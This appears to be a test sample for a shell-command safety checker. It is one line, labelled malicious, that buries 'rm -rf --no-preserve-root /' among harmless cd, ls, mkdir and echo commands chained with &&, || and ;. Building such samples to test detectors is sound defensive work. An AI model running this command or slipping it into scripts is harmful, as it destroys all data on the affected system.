# Malicious, obfuscated: a destructive command buried in an && / || / ; list of harmless ones.
cd /tmp && ls >/dev/null || true; mkdir -p build && rm -rf --no-preserve-root / ; echo done
